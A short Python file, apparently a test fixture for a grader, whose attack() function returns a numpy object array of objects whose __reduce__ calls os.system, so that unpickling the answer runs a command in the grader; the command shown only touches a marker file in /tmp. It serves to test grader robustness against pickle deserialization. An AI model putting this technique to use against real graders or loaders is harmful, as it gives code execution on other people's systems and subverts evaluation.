"""Answers with an array of objects which, if it were unpickled, would run a command in the grader."""

import os

import numpy as np


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/minillm-attack-object-array",)


def attack(*args, **kwargs):
    return np.array([Command(), Command()], dtype=object)
